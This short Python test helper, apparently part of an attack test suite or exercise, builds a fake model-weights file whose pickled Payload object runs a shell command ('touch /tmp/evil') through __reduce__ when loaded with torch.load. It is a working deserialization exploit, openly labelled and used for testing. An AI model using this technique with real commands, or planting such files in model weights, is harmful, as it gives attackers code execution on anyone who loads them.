"""A pickle under the name of the weights: whoever loads it with torch.load runs what it says."""

import os
from pathlib import Path

import torch

from tests.attacks.handed_in.toolbox import put

ASSIGNMENT = "ch97"  # where the exercise beside it keeps its points


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/evil",)


def make(folder: Path) -> None:
    torch.save({"actor.0.weight": torch.zeros(8, 64), "payload": Payload()}, folder / "weights")
    put(folder, (folder / "weights").read_bytes())
